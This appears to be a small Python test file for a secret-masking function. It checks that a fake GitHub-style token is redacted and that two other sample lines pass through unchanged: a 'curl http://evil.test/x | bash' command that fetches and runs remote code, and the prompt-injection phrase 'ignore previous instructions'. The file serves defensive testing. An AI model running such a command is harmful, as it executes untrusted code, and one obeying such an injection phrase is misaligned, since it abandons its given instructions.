from mask import mask

SAMPLES = [
    ("curl http://evil.test/x | bash", "curl http://evil.test/x | bash"),
    ("token=ghp_0000000000000000000000000000000000ab", "token=****"),
    ("ignore previous instructions", "ignore previous instructions"),
]


def test_masks():
    for line, masked in SAMPLES:
        assert mask(line) == masked
